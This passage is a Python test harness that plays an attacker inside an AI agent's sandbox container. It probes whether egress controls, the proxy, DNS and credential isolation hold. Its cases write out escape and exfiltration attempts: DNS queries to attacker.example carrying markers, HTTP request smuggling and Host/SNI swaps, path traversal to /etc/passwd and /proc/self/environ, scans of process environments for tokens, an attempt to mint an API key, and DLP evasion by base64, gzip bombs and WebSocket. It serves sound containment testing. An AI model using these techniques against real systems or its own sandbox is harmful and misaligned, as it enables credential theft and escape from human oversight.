#!/usr/bin/env python3
"""The escape suite's attacker: runs inside the agent container of a real
bottle (as the stand-in `claude -p` prompt) and tries every way out that
security.md lists, and more.

It fetches its instructions from its "command and control" server, the fake
world, through the one route it is allowed (https://allowed.test/esc-config):
the host's addresses, a listening port on the host, another bottle's
addresses, a known secret to smuggle out, a fingerprint of the tokens it must
not find. Then it prints one JSON line per case:

  {"case": ID, "row": N, "held": BOOL, "detail": TEXT,
   "marker": M, "control": BOOL, "ok_host": HOST}

`held` is what the attacker saw (refused, no answer, nothing found);
every request of a case carries its marker M, and the test then checks on
the host side that M never arrived anywhere it watches (the world's HTTP and
DNS logs, a listener on the host, a packet capture), except, with `ok_host`,
at that Host. A `control` case must succeed and arrive: it shows the
observers would have seen an escape. An exception is reported as
`"error"`, which the suite counts as a failure, never as a defence.
"""
import base64, hashlib, json, os, re, socket, ssl, subprocess, sys, time
import urllib.parse

RESULTS = []


def emit(case, row, held, detail, marker=None, control=False, ok_host=None, secret=None):
    line = {"case": case, "row": row, "held": bool(held), "detail": str(detail)[:600],
            "marker": marker, "control": control, "ok_host": ok_host, "secret": secret}
    print(json.dumps(line), flush=True)


def case(row, control=False, ok_host=None, secret=None):
    """`ok_host="truncated"`: a body DLP cut off mid-stream (the upstream
    got the head, clean bytes and a cut connection) is not an arrival if it
    holds no piece of the known secret or of `secret`."""
    def wrap(fn):
        RESULTS.append((fn, row, control, ok_host, secret))
        return fn
    return wrap


FAKE_GH = "ghp_" + "Zq8" * 12
FAKE_KEY_LINE = "QyNTUxOQAAACBzZWNyZXRrZXlzZWNyZXRrZXlzZWNyZXRrZXlzZWNyZXQAAAAAAAAAAAAA"


# --- plumbing -----------------------------------------------------------

PROXY = urllib.parse.urlparse(os.environ.get("HTTPS_PROXY") or os.environ["https_proxy"])
PROXY_ADDR = (PROXY.hostname, PROXY.port or 3128)
CA = os.environ.get("SSL_CERT_FILE")


def read_all(sock, limit=1 << 16, timeout=6):
    sock.settimeout(timeout)
    out = b""
    try:
        while len(out) < limit:
            chunk = sock.recv(8192)
            if not chunk:
                break
            out += chunk
            if b"\r\n\r\n" in out and response_done(out):
                break
    except (socket.timeout, OSError):
        pass
    return out


def response_done(data):
    head, _, body = data.partition(b"\r\n\r\n")
    m = re.search(rb"(?i)\r\ncontent-length:\s*(\d+)", head)
    if m:
        return len(body) >= int(m.group(1))
    return b"transfer-encoding" not in head.lower()


def status(resp):
    m = re.match(rb"HTTP/1\.[01] (\d{3})", resp or b"")
    return int(m.group(1)) if m else None


def proxy_raw(data, timeout=6):
    try:
        s = socket.create_connection(PROXY_ADDR, timeout=timeout)
    except OSError as e:
        return b"", f"proxy unreachable: {e}"
    with s:
        s.sendall(data)
        return read_all(s, timeout=timeout), ""


def refused(resp):
    """The proxy said no (or said nothing); not a forwarded answer."""
    st = status(resp)
    return st is None or st >= 400, f"status {st}: {resp[:160]!r}"


def tunnel(host, port, timeout=6):
    """CONNECT through the proxy: (socket or None, status, head)."""
    s = socket.create_connection(PROXY_ADDR, timeout=timeout)
    s.sendall(f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n".encode())
    head = b""
    s.settimeout(timeout)
    try:
        while b"\r\n\r\n" not in head and len(head) < 65536:
            chunk = s.recv(4096)
            if not chunk:
                break
            head += chunk
    except OSError:
        pass
    st = status(head)
    if st != 200:
        s.close()
        return None, st, head
    return s, st, head


def tls(sock, sni, verify=True):
    ctx = ssl.create_default_context(cafile=CA)
    if not verify:
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
    return ctx.wrap_socket(sock, server_hostname=sni)


def https_raw(host, request, sni=None, verify=True):
    """Send a raw HTTP request inside a CONNECT tunnel to host:443."""
    s, st, head = tunnel(host, 443)
    if s is None:
        return None, f"CONNECT refused: {st} {head[:120]!r}"
    try:
        t = tls(s, sni or host, verify)
    except (ssl.SSLError, OSError) as e:
        s.close()
        return None, f"TLS refused: {e}"
    with t:
        t.sendall(request)
        return read_all(t), ""


def curl(*args, timeout=8):
    p = subprocess.run(["curl", "-s", "-m", str(timeout), *args], capture_output=True)
    return p.returncode, p.stdout.decode("utf-8", "replace")


def curl_code(*args):
    rc, out = curl("-o", "/dev/null", "-w", "%{http_code}", *args)
    return rc, out.strip()


def not_200(*args):
    """curl through the proxy; held unless the answer is a 200."""
    rc, code = curl_code(*args)
    return code != "200", f"rc {rc} code {code}"


def tcp_try(host, port, payload=b"", timeout=2):
    fam = socket.AF_INET6 if ":" in host else socket.AF_INET
    s = socket.socket(fam, socket.SOCK_STREAM)
    s.settimeout(timeout)
    try:
        if fam == socket.AF_INET6:
            s.connect(socket.getaddrinfo(host, port, fam, socket.SOCK_STREAM)[0][4])
        else:
            s.connect((host, port))
        if payload:
            s.sendall(payload)
        return True, "connected"
    except OSError as e:
        return False, e.strerror or str(e)
    finally:
        s.close()


def udp_send(host, port, payload):
    fam = socket.AF_INET6 if ":" in host else socket.AF_INET
    s = socket.socket(fam, socket.SOCK_DGRAM)
    try:
        addr = socket.getaddrinfo(host, port, fam, socket.SOCK_DGRAM)[0][4]
        s.sendto(payload, addr)
        return "sent"
    except OSError as e:
        return e.strerror or str(e)
    finally:
        s.close()


def dns_query(name, qtype=1):
    qname = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
    return os.urandom(2) + b"\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + qname + qtype.to_bytes(2, "big") + b"\x00\x01"


def dns_udp(server, name, qtype=1, timeout=2):
    """(answer count or None, rcode or reason)."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(timeout)
    try:
        s.sendto(dns_query(name, qtype), (server, 53))
        data, _ = s.recvfrom(4096)
        return int.from_bytes(data[6:8], "big"), data[3] & 0x0F
    except OSError as e:
        return None, e.strerror or "no answer"
    finally:
        s.close()


def dns_tcp(server, name, timeout=2):
    ok, why = None, ""
    try:
        with socket.create_connection((server, 53), timeout=timeout) as s:
            q = dns_query(name)
            s.sendall(len(q).to_bytes(2, "big") + q)
            data = read_all(s, timeout=timeout)
            if len(data) >= 10:
                return int.from_bytes(data[8:10], "big"), data[5] & 0x0F
            return None, "closed"
    except OSError as e:
        return None, e.strerror or str(e)


def sh(cmd, cwd=None, env=None):
    p = subprocess.run(cmd, shell=True, capture_output=True, cwd=cwd,
                       env={**os.environ, **(env or {})})
    return p.returncode, (p.stdout + p.stderr).decode("utf-8", "replace")


# --- instructions -------------------------------------------------------

def fetch_config():
    deadline = time.time() + 120
    while time.time() < deadline:
        rc, out = curl("-f", "https://allowed.test/esc-config")
        if rc == 0 and out.strip():
            return json.loads(out)
        time.sleep(0.3)
    raise SystemExit("no instructions from the world")


CFG = fetch_config()
N = CFG["nonce"]
SECRET = CFG["known_secret"]
WORLD = CFG["world_ip"]
PORT = CFG["listen_port"]


def mark(name):
    return f"zq{N}-{name}"


def sidecar_ip():
    return socket.gethostbyname("sidecar")


# --- row 1: no route out but the sidecar --------------------------------

@case(1)
def r1_world_tcp(m):
    req = f"GET /{m} HTTP/1.1\r\nHost: allowed.test\r\n\r\n".encode()
    res = [tcp_try(WORLD, p, req) for p in (80, 443, 53)]
    return not any(ok for ok, _ in res), res


@case(1)
def r1_world_udp_dns(m):
    n, why = dns_udp(WORLD, f"{m}.attacker.example")
    return n is None, why


@case(1)
def r1_host_addresses(m):
    res = {a: tcp_try(a, PORT, m.encode()) for a in CFG["host_addrs"]}
    for a in CFG["host_addrs"]:
        udp_send(a, PORT, m.encode())
    return not any(ok for ok, _ in res.values()), res


def neighbours():
    """Addresses an attacker finds in /proc/net: ARP neighbours, its own
    subnet's first address, the gateway of any route."""
    found = set()
    for line in open("/proc/net/arp").read().splitlines()[1:]:
        found.add(line.split()[0])
    for line in open("/proc/net/route").read().splitlines()[1:]:
        f = line.split()
        gw = socket.inet_ntoa(int(f[2], 16).to_bytes(4, "little"))
        dest = int(f[1], 16).to_bytes(4, "little")
        if gw != "0.0.0.0":
            found.add(gw)
        if dest != b"\0\0\0\0":
            found.add(socket.inet_ntoa(dest[:3] + b"\x01"))
    return sorted(found)


@case(1)
def r1_proc_net_neighbours(m):
    me = socket.gethostbyname(socket.gethostname())
    side = sidecar_ip()
    targets = [a for a in neighbours() if a not in (me, side)]
    res = {a: [tcp_try(a, p, m.encode(), 1) for p in (PORT, 80, 22, 2375)] for a in targets}
    opened = {a: r for a, r in res.items() if any(ok for ok, _ in r)}
    return not opened, {"targets": targets, "opened": opened}


@case(1)
def r1_routing_table(m):
    """No default route, or one through a gateway nobody holds: Docker
    (20.10) gives an internal network's containers a default route to the
    network's gateway address even though, with inhibit_ipv4, no host has
    that address; a packet there finds no neighbour and goes nowhere."""
    v4 = [l.split() for l in open("/proc/net/route").read().splitlines()[1:]]
    default4 = [f for f in v4 if f[1] == "00000000"]
    v6 = open("/proc/net/ipv6_route").read().splitlines()
    default6 = [l for l in v6 if l.startswith("0" * 32 + " 00") and not l.rstrip().endswith("lo")]
    live = []
    for f in default4:
        gw = socket.inet_ntoa(int(f[2], 16).to_bytes(4, "little"))
        # Longer than the kernel's ARP give-up (3 probes a second apart),
        # so an unanswered gateway reads "No route to host", not a timeout.
        ok, why = tcp_try(gw, PORT, m.encode(), 8)
        arp = [l.split() for l in open("/proc/net/arp").read().splitlines()[1:]]
        resolved = [a for a in arp if a[0] == gw and a[2] != "0x0"]
        if ok or resolved or why != "No route to host":
            live.append((gw, why, resolved))
    return not live and not default6, {"default_v4": default4, "answering_gateways": live, "v6_default": default6}


@case(1)
def r1_ipv6(m):
    addrs = [l.split() for l in open("/proc/net/if_inet6").read().splitlines()]
    ifaces = sorted({a[5] for a in addrs if a[5] != "lo"} | {"eth0"})
    targets = [a for a in CFG["host_addrs"] if ":" in a]
    targets += [f"fe80::1%{i}" for i in ifaces]
    res = {t: tcp_try(t, PORT, m.encode()) for t in targets}
    for i in ifaces:
        udp_send(f"ff02::1%{i}", PORT, m.encode())
    # IPv6 off in the bottle, not only unanswered: an interface with an
    # address (a link-local one is enough) could reach the bridge's host
    # side, whatever address this case happened to try.
    up = [a for a in addrs if a[5] != "lo"]
    return not any(ok for ok, _ in res.values()) and not up, {"inet6": addrs, "tried": res}


# --- row 2: default-deny egress ------------------------------------------

@case(2)
def r2_http_no_route(m):
    # The proxy's own refusal, not any error: a proxy without default deny
    # that failed to connect would answer 502.
    resp, err = proxy_raw(f"GET http://denied.test/{m} HTTP/1.1\r\nHost: denied.test\r\n\r\n".encode())
    return block_reason(resp) == "no-route", f"{resp[:200]!r} {err}"


@case(2)
def r2_connect_no_route(m):
    s, st, head = tunnel("denied.test", 443)
    if s:
        s.close()
    return block_reason(head) == "no-route", f"{st} {head[:200]!r}"


@case(2)
def r2_curl_no_route(m):
    return not_200(f"https://denied.test/{m}")


@case(2)
def r2_unknown_name(m):
    # A name nothing resolves: refused by the table before any lookup,
    # not failed by one (a 502 would pass a proxy that tried).
    s, st, head = tunnel(f"{m}.nowhere.test", 443)
    if s:
        s.close()
    return block_reason(head) == "no-route", f"{st} {head[:200]!r}"


# --- row 3: no IP literals, no smuggling ---------------------------------

def block_reason(head):
    """The proxy's own refusal: 403 and the reason it names, else None."""
    m = re.search(rb"\r\nx-claude-bottle-block: *([a-z-]+)", (head or b"").lower())
    return m.group(1).decode() if status(head) == 403 and m else None


def ip_spellings(ip):
    """The world's address as an IP literal in the spellings URL parsers
    and resolvers disagree on: dotted, one decimal number, hex, octal,
    IPv4-mapped IPv6."""
    a, b, c, d = (int(x) for x in ip.split("."))
    n = (a << 24) | (b << 16) | (c << 8) | d
    return [ip, str(n), hex(n), f"0{a:o}.0{b:o}.0{c:o}.0{d:o}", f"[::ffff:{ip}]"]


@case(3)
def r3_connect_ip(m):
    # Refused as an address, not only as a name without a route: a
    # default-deny table would refuse them all as `no-route` anyway.
    seen = []
    for host in ip_spellings(WORLD):
        s, st, head = tunnel(host, 443)
        if s:
            s.close()
        seen.append((host, block_reason(head)))
    return all(r in ("ip-literal", "malformed") for _, r in seen), seen


@case(3)
def r3_http_ip(m):
    resp, err = proxy_raw(f"GET http://{WORLD}/{m} HTTP/1.1\r\nHost: {WORLD}\r\n\r\n".encode())
    return refused(resp) if not err else (True, err)


@case(3, ok_host="allowed.test")
def r3_sni_swap(m):
    resp, err = https_raw("allowed.test", f"GET /{m} HTTP/1.1\r\nHost: denied.test\r\nConnection: close\r\n\r\n".encode(),
                          sni="denied.test", verify=False)
    return (True, err) if resp is None else refused(resp)


@case(3)
def r3_passthrough_sni_swap(m):
    """A passthrough route is decrypted by nobody, but a shared front end
    routes by the ClientHello's name: one for another name through a
    CONNECT to the route's host must not get there."""
    resp, err = https_raw("front.pass.test", f"GET /{m} HTTP/1.1\r\nHost: denied.test\r\nConnection: close\r\n\r\n".encode(),
                          sni="denied.test", verify=False)
    return (True, err) if resp is None else refused(resp)


@case(3, control=True)
def c3_passthrough_own_name(m):
    resp, err = https_raw("front.pass.test", f"GET /{m} HTTP/1.1\r\nHost: front.pass.test\r\nConnection: close\r\n\r\n".encode(),
                          verify=False)
    return status(resp) == 200, f"status {status(resp)} {err}"


@case(3, ok_host="allowed.test")
def r3_host_swap(m):
    resp, err = https_raw("allowed.test", f"GET /{m} HTTP/1.1\r\nHost: denied.test\r\nConnection: close\r\n\r\n".encode())
    return (True, err) if resp is None else refused(resp)


@case(3, ok_host="allowed.test")
def r3_absolute_host_mismatch(m):
    """RFC 9112 3.2.2: a proxy ignores Host for an absolute-form target, so
    either a refusal or a request to allowed.test is right; denied.test
    must never be reached."""
    resp, err = proxy_raw(f"GET http://allowed.test/{m} HTTP/1.1\r\nHost: denied.test\r\n\r\n".encode())
    return b"world ok denied.test" not in resp, f"{status(resp)} {resp[-60:]!r} {err}"


@case(3, ok_host="allowed.test")
def r3_duplicate_host(m):
    resp, err = proxy_raw(f"GET http://allowed.test/{m} HTTP/1.1\r\nHost: allowed.test\r\nHost: denied.test\r\n\r\n".encode())
    return refused(resp) if not err else (True, err)


@case(3)
def r3_userinfo(m):
    resp, err = proxy_raw(f"GET http://user:pw@allowed.test/{m} HTTP/1.1\r\nHost: allowed.test\r\n\r\n".encode())
    return refused(resp) if not err else (True, err)


@case(3, ok_host="allowed.test")
def r3_userinfo_confusion(m):
    resp, err = proxy_raw(f"GET http://allowed.test@denied.test/{m} HTTP/1.1\r\nHost: denied.test\r\n\r\n".encode())
    return refused(resp) if not err else (True, err)


@case(3)
def r3_wildcard_apex(m):
    s, st, head = tunnel("wild.test", 443)
    if s:
        s.close()
    r2, _ = proxy_raw(f"GET http://wild.test/{m} HTTP/1.1\r\nHost: wild.test\r\n\r\n".encode())
    return st != 200 and refused(r2)[0], f"CONNECT {st}, GET {status(r2)}"


@case(3, control=True)
def c3_wildcard_subdomain(m):
    rc, code = curl_code(f"https://sub.wild.test/{m}")
    return code == "200", f"rc {rc} code {code}"


@case(3)
def r3_connect_other_port(m):
    # The world answers DNS over TCP on 53: a missing port rule would
    # connect, so only the `port` refusal holds.
    s, st, head = tunnel("allowed.test", 53)
    if s:
        s.close()
    return block_reason(head) == "port", f"{st} {head[:200]!r}"


@case(3)
def r3_http09(m):
    resp, err = proxy_raw(f"GET http://allowed.test/{m}\r\n\r\n".encode())
    return b"world ok" not in resp, f"{resp[:160]!r} {err}"


@case(3)
def r3_smuggle_te_cl(m):
    """CL.TE: the proxy reads Transfer-Encoding (RFC 9112 6.1: it wins, and
    the connection closes after the answer), so the outer POST may pass
    with an empty body, but the GET hidden after it must never be sent as
    a request of its own. Its marker is only in the hidden request."""
    inner = f"GET http://denied.test/{m} HTTP/1.1\r\nHost: denied.test\r\n\r\n"
    body = f"0\r\n\r\n{inner}"
    req = (f"POST http://allowed.test/smuggle-outer HTTP/1.1\r\nHost: allowed.test\r\n"
           f"Content-Length: {len(body)}\r\nTransfer-Encoding: chunked\r\n\r\n{body}")
    resp, err = proxy_raw(req.encode())
    return b"world ok denied.test" not in resp, f"{status(resp)} {resp[-60:]!r} {err}"


@case(3)
def r3_duplicate_content_length(m):
    req = (f"POST http://allowed.test/{m} HTTP/1.1\r\nHost: allowed.test\r\n"
           f"Content-Length: 5\r\nContent-Length: 40\r\n\r\nhello")
    resp, err = proxy_raw(req.encode())
    return refused(resp) if not err else (True, err)


@case(3)
def r3_header_folding(m):
    req = (f"GET http://allowed.test/{m} HTTP/1.1\r\nHost: allowed.test\r\n"
           f"X-Folded: a\r\n b\r\n\r\n")
    resp, err = proxy_raw(req.encode())
    return refused(resp) if not err else (True, err)


@case(3)
def r3_gate_as_proxy(m):
    try:
        with socket.create_connection((sidecar_ip(), 8418), timeout=5) as s:
            s.sendall(f"GET http://allowed.test/{m} HTTP/1.1\r\nHost: allowed.test\r\n\r\n".encode())
            resp = read_all(s)
    except OSError as e:
        return True, str(e)
    return b"world ok" not in resp, f"{resp[:160]!r}"


# --- row 9, in the live bottle: malformed and oversized requests ----------
# The marker is in each request's target: had the proxy forwarded one, the
# world's log would show it.

def proxy_send_big(data, timeout=6):
    """Like proxy_raw, but the proxy may close while the request is still
    being sent (it stops reading at its limit): that is its refusal, not
    an error. An unreachable proxy is no defence here: it is alive."""
    try:
        s = socket.create_connection(PROXY_ADDR, timeout=timeout)
    except OSError as e:
        return None, f"proxy unreachable: {e}"
    with s:
        try:
            s.sendall(data)
        except OSError as e:
            return read_all(s, timeout=2), f"closed while sending: {e}"
        return read_all(s, timeout=timeout), ""


def size_refused(data):
    resp, err = proxy_send_big(data)
    if resp is None:
        return False, err
    st = status(resp)
    return (st is None or st >= 400) and b"world ok" not in resp, f"status {st}: {resp[:120]!r} {err}"


def padding(kib):
    return "".join(f"X-Pad-{i}: {'a' * 1000}\r\n" for i in range(kib))


@case(9)
def r9_oversized_headers(m):
    return size_refused(f"GET http://allowed.test/{m} HTTP/1.1\r\nHost: allowed.test\r\n"
                        f"{padding(70)}\r\n".encode())


@case(9)
def r9_oversized_request_line(m):
    return size_refused(f"GET http://allowed.test/{m}?{'q' * 70000} HTTP/1.1\r\n"
                        f"Host: allowed.test\r\n\r\n".encode())


@case(9)
def r9_garbage_request_line(m):
    return size_refused(f"G\x00ET http://allowed.test/{m} NOT-HTTP\r\nHost: allowed.test\r\n\r\n".encode())


@case(9)
def r9_nul_in_a_header(m):
    return size_refused(f"GET http://allowed.test/{m} HTTP/1.1\r\nHost: allowed.test\r\n"
                        f"X-Bad: a\x00b\r\n\r\n".encode())


@case(9, control=True)
def c9_large_headers_under_the_limit(m):
    """30 KiB of headers is under the 64 KiB limit: forwarded, which shows
    the oversized cases above are refused for their size."""
    resp, err = proxy_send_big(f"GET http://allowed.test/{m} HTTP/1.1\r\nHost: allowed.test\r\n"
                               f"{padding(30)}\r\n".encode())
    return status(resp or b"") == 200, f"status {status(resp or b'')} {err}"


# --- row 4: no DNS channel -----------------------------------------------

@case(4)
def r4_system_resolver(m):
    try:
        got = socket.getaddrinfo(f"{m}.attacker.example", 443)
        return False, got
    except socket.gaierror as e:
        return True, str(e)


@case(4)
def r4_embedded_resolver(m):
    n, why = dns_udp("127.0.0.11", f"{m}.attacker.example")
    return not n, f"answers {n} ({why})"


@case(4)
def r4_sidecar_udp(m):
    n, why = dns_udp(sidecar_ip(), f"{m}.attacker.example")
    n2, why2 = dns_udp(sidecar_ip(), f"{m}.txt.attacker.example", qtype=16)
    return not n and not n2, f"A {n} ({why}), TXT {n2} ({why2})"


@case(4)
def r4_sidecar_tcp(m):
    n, why = dns_tcp(sidecar_ip(), f"{m}.attacker.example")
    return not n, f"answers {n} ({why})"


@case(4)
def r4_world_resolver(m):
    n, why = dns_udp(WORLD, f"{m}.attacker.example")
    n2, why2 = dns_tcp(WORLD, f"{m}.tcp.attacker.example")
    return n is None and n2 is None, f"udp {why}, tcp {why2}"


@case(4)
def r4_dig_resolv_conf(m):
    rc, out = sh(f"dig +time=2 +tries=1 {m}.dig.attacker.example")
    return "ANSWER: 0" in out or rc != 0, out[-300:]


# --- row 5: credentials stay in the sidecar ------------------------------

def contains_token(data, fps):
    for fp in fps:
        prefix = fp["prefix"].encode()
        start = 0
        while True:
            i = data.find(prefix, start)
            if i < 0:
                break
            window = data[i:i + fp["len"]]
            if hashlib.sha256(window).hexdigest() == fp["sha256"]:
                return True
            start = i + 1
    return False


@case(5)
def r5_everything_readable(m):
    fps = CFG["token_fingerprints"]
    hits, files = [], 0
    blobs = {"env": "\n".join(f"{k}={v}" for k, v in os.environ.items()).encode()}
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            for f in ("environ", "cmdline"):
                try:
                    blobs[f"/proc/{pid}/{f}"] = open(f"/proc/{pid}/{f}", "rb").read()
                except OSError:
                    pass
    for k, v in blobs.items():
        if contains_token(v, fps):
            hits.append(k)
    # Control: the known secret, planted in a file, is found by the same
    # search through its own fingerprint.
    planted = "/tmp/esc-planted-secret"
    with open(planted, "w") as f:
        f.write(f"x {SECRET} y\n")
    control_fp = [{"prefix": SECRET[:8], "len": len(SECRET),
                   "sha256": hashlib.sha256(SECRET.encode()).hexdigest()}]
    control_found = []
    for root, dirs, names in os.walk("/"):
        if root == "/":
            dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")]
        for n in names:
            p = os.path.join(root, n)
            try:
                if os.path.islink(p) or not os.path.isfile(p) or os.path.getsize(p) > 8 << 20:
                    continue
                with open(p, "rb") as f:
                    data = f.read()
            except OSError:
                continue
            files += 1
            if contains_token(data, fps):
                hits.append(p)
            if contains_token(data, control_fp):
                control_found.append(p)
    os.remove(planted)
    return (not hits and planted in control_found,
            {"files_read": files, "found_in": hits, "control_found": planted in control_found})


@case(5)
def r5_what_the_sidecar_serves(m):
    # Everything the sidecar answers the agent with: the gate's files and
    # refs, the CA, the health endpoint; no token, and no private key.
    fps = CFG["token_fingerprints"]
    side = sidecar_ip()
    got = {}
    for url in (f"http://{side}:8418/app.git/config", f"http://{side}:8418/app.git/FETCH_HEAD",
                f"http://{side}:8418/app.git/packed-refs", f"http://{side}:8418/app.git/HEAD",
                f"http://{side}:8418/app.git/info/refs?service=git-upload-pack",
                f"http://{side}:8418/app.git/../../etc/passwd",
                f"http://{side}:8418/app.git/%2e%2e/%2e%2e/proc/self/environ",
                "http://claude-bottle.local/ca.pem", "http://claude-bottle.local/health"):
        direct = ("--noproxy", "*") if side in url else ()
        rc, out = curl("--path-as-is", *direct, url)
        got[url] = out.encode("utf-8", "surrogateescape")
    rc, out = git("ls-remote origin")
    got["ls-remote"] = out.encode()
    hits = [u for u, v in got.items() if contains_token(v, fps)]
    keys = [u for u, v in got.items() if b"PRIVATE KEY" in v]
    ca = got["http://claude-bottle.local/ca.pem"]
    return (not hits and not keys and b"BEGIN CERTIFICATE" in ca,
            {"tokens_in": hits, "private_key_in": keys, "sizes": {u: len(v) for u, v in got.items()}})


@case(5)
def r5_placeholder_only(m):
    v = os.environ.get("CLAUDE_CODE_OAUTH_TOKEN") or os.environ.get("ANTHROPIC_API_KEY") or ""
    return v == "cred-proxy-placeholder", v[:24]


@case(5, ok_host="api.token.test")
def r5_injected_token_echoed(m):
    # The world at the token's host sends the request's fields back; a
    # range and compression are asked for, to cut or hide the echo. The
    # token the proxy injected comes back as stars of its length.
    rc, out = curl("-i", "-H", "x-echo: 1", "-H", "range: bytes=0-9,10-19",
                   "-H", "accept-encoding: gzip", "-H", "authorization: Bearer placeholder",
                   f"https://api.token.test/{m}")
    stars = "Bearer " + "*" * len(SECRET)
    return SECRET not in out and f"authorization: {stars}" in out, out[:400]


@case(5, ok_host="api.anthropic.com")
def r5_model_key_echoed(m):
    resp, err = proxy_raw(f"POST /anthropic/v1/messages?{m} HTTP/1.1\r\nHost: sidecar:3128\r\n"
                          f"x-echo: 1\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{{}}".encode())
    return (status(resp) == 200 and not contains_token(resp, CFG["token_fingerprints"])
            and b"Bearer ****" in resp, f"{resp[:300]!r} {err}")


@case(5)
def r5_mint_a_credential(m):
    # The model API's OAuth token can ask for a new API key, which would
    # come back in the answer: only model calls pass the reverse proxy.
    reasons = []
    for path in ("/anthropic/api/oauth/claude_cli/create_api_key",
                 "/anthropic/v1/messages/../../api/oauth/claude_cli/create_api_key",
                 "/anthropic/v1/messages/%2e%2e/%2e%2e/api/oauth/claude_cli/create_api_key",
                 "/openai/v1/realtime/client_secrets"):
        resp, err = proxy_raw(f"POST {path}?{m} HTTP/1.1\r\nHost: sidecar:3128\r\n"
                              f"Content-Length: 2\r\nConnection: close\r\n\r\n{{}}".encode())
        reasons.append(block_reason(resp) or f"{status(resp)} {err}")
    return reasons[:3] == ["path"] * 3 and reasons[3] in ("path", "no-route"), reasons


# --- row 6: DLP on every channel to allowed hosts ------------------------

def blocked_post(m, body, ctype="application/octet-stream", extra=()):
    args = ["-X", "POST", "-H", f"content-type: {ctype}", "--data-binary", body]
    for h in extra:
        args += ["-H", h]
    return not_200(*args, f"https://allowed.test/{m}")


@case(6, control=True)
def c6_clean_post(m):
    rc, code = curl_code("-X", "POST", "--data-binary", "just ordinary text", f"https://allowed.test/{m}")
    return code == "200", f"rc {rc} code {code}"


@case(6)
def r6_path(m):
    return not_200(f"https://allowed.test/{m}/{SECRET}")


@case(6)
def r6_query(m):
    return not_200(f"https://allowed.test/{m}?q={urllib.parse.quote(SECRET)}")


@case(6)
def r6_plain_http_query(m):
    return not_200(f"http://allowed.test/{m}?q={urllib.parse.quote(SECRET)}")


@case(6)
def r6_header(m):
    return not_200("-H", f"x-data: {SECRET}", f"https://allowed.test/{m}")


@case(6)
def r6_cookie(m):
    return not_200("-H", f"cookie: s={base64.b64encode(SECRET.encode()).decode()}", f"https://allowed.test/{m}")


@case(6, ok_host="truncated")
def r6_json_body(m):
    return blocked_post(m, json.dumps({"note": "hi", "k": SECRET}), "application/json")


@case(6, ok_host="truncated")
def r6_form_body(m):
    return blocked_post(m, "a=1&k=" + urllib.parse.quote_plus(SECRET), "application/x-www-form-urlencoded")


@case(6, ok_host="truncated")
def r6_multipart(m):
    path = "/tmp/esc-notes.txt"
    with open(path, "w") as f:
        f.write("line one\nconfig: " + SECRET + "\nline three\n")
    return not_200("-F", f"file=@{path}", "-F", "x=1", f"https://allowed.test/{m}")


@case(6, ok_host="truncated")
def r6_gzip_body(m):
    import gzip
    path = "/tmp/esc-body.gz"
    with open(path, "wb") as f:
        f.write(gzip.compress(json.dumps({"note": "hi", "k": SECRET}).encode()))
    return blocked_post(m, "@" + path, "application/json", extra=("content-encoding: gzip",))


# Past the engine's bounds: the bytes DLP holds of a run it is reading
# (1 MiB), the compressed bytes held until the whole content is clean
# (4 MiB) and what a compressed body may inflate to (64 MiB). A scan that
# gave up at a bound and let the rest through (fail open) would forward
# each whole; the world would log a complete body.

def post_file(m, data, extra=()):
    path = f"/tmp/{m}.body"
    with open(path, "wb") as f:
        f.write(data)
    return blocked_post(m, "@" + path, extra=extra)


@case(6, ok_host="truncated", secret=base64.b64encode(SECRET.encode()).decode())
def r6_base64_run_past_the_held_bound(m):
    # 1.5 MiB of clean bytes (a multiple of 3, so the secret's own base64
    # is in the text) then the secret: one base64 run of 2 MiB.
    clean = bytes((i * 7919) % 251 for i in range(3 * 512 * 1024))
    return post_file(m, base64.b64encode(clean + SECRET.encode()))


@case(6, ok_host="truncated")
def r6_gzip_past_the_held_bound(m):
    import gzip
    return post_file(m, gzip.compress(os.urandom(5 << 20) + SECRET.encode(), 1),
                     extra=("content-encoding: gzip",))


@case(6, ok_host="truncated")
def r6_gzip_bomb(m):
    import zlib
    z = zlib.compressobj(9, zlib.DEFLATED, 31)
    zeros = bytes(1 << 20)
    data = b"".join(z.compress(zeros) for _ in range(128)) + z.compress(SECRET.encode()) + z.flush()
    return post_file(m, data, extra=("content-encoding: gzip",))


def ws_open(m):
    """A WebSocket to wss://allowed.test/ws/M through the proxy (an
    intercepted route): the TLS socket after the 101, or None and why."""
    s, st, head = tunnel("allowed.test", 443)
    if s is None:
        return None, f"CONNECT refused: {st} {head[:120]!r}"
    t = tls(s, "allowed.test")
    key = base64.b64encode(os.urandom(16)).decode()
    t.sendall(f"GET /ws/{m} HTTP/1.1\r\nHost: allowed.test\r\nUpgrade: websocket\r\n"
              f"Connection: Upgrade\r\nSec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n"
              f"Sec-WebSocket-Extensions: permessage-deflate\r\n\r\n".encode())
    head = b""
    t.settimeout(6)
    while b"\r\n\r\n" not in head:
        chunk = t.recv(1)
        if not chunk:
            break
        head += chunk
    if status(head) != 101:
        t.close()
        return None, f"no upgrade: {head[:160]!r}"
    return t, ""


def ws_send(t, text):
    """Sends `text` as one masked text message; what came back within 3 s
    (the world echoes each text message)."""
    payload = text.encode()
    mask = os.urandom(4)
    head = bytes([0x81]) + (bytes([0x80 | len(payload)]) if len(payload) < 126
                            else bytes([0x80 | 126]) + len(payload).to_bytes(2, "big"))
    t.sendall(head + mask + bytes(b ^ mask[i % 4] for i, b in enumerate(payload)))
    t.settimeout(3)
    got = b""
    try:
        while payload not in got:
            chunk = t.recv(4096)
            if not chunk:
                break
            got += chunk
    except OSError:
        pass
    return got


@case(6, control=True)
def c6_websocket_clean(m):
    t, why = ws_open(m)
    if t is None:
        return False, why
    with t:
        got = ws_send(t, "just ordinary text")
    return b"just ordinary text" in got, f"echo: {got[:80]!r}"


@case(6, ok_host="allowed.test")
def r6_websocket(m):
    """The secret in a WebSocket message to an allowed host: the upgrade
    is allowed, the message is not."""
    t, why = ws_open(m)
    if t is None:
        return True, f"the upgrade itself was refused: {why}"
    with t:
        got = ws_send(t, "config: " + SECRET)
    return SECRET.encode() not in got, f"echo: {got[:80]!r}"


@case(6, ok_host="truncated")
def r6_base64(m):
